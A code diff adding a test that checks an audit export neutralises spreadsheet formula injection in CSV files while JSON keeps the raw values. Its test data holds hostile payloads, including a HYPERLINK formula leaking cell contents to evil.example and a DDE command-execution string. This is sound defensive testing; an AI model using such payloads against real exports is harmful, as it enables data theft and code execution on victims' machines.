@@ -227,6 +227,20 @@ for (const provider of ["sqlite", "postgres"] as const) {
       await expect(requestEvidenceExport({ actor: owner }, { period: year })).rejects.toMatchObject({ code: "FORBIDDEN" });
     });
 
+    it("defuses formulas that a gateway put in event fields in auth-events.csv, and the JSON twin keeps the original", async () => {
+      const api = await db.api.findFirstOrThrow({ where: { deletedAt: null }, orderBy: { name: "asc" } });
+      const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=cmd|' /C calc'!A0"];
+      const at = new Date(now.getTime() - 30_000).toISOString();
+      await ingestAuthEvents({ actor: admin }, hostile.map((h) => ({ time: at, api: api.id, clientId: h, principal: h, outcome: "success", method: "GET", route: h })));
+      const files = await unzip((await exportTo(auditor, { period: year, apiIds: [api.id] }, "formulas.zip")).file);
+      const csv = csvRows(files.get("data/auth-events.csv")!).filter((r) => r.clientId !== "ledger-sync");
+      const json = jsonRows(files.get("data/auth-events.json")!).filter((r) => r.clientId !== "ledger-sync");
+      expect(csv.map((r) => r.principal).sort()).toEqual(hostile.map((h) => `'${h}`).sort());
+      for (const r of csv) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
+      expect(json.map((r) => r.principal).sort()).toEqual([...hostile].sort());
+      for (const r of json) expect([r.clientId, r.route]).toEqual([r.principal, r.principal]);
+    });
+
     it("still gives a valid bundle that says so when nothing is in scope", async () => {
       const { file } = await exportTo(auditor, { period: "2001" }, "empty.zip");
       const files = await unzip(file);
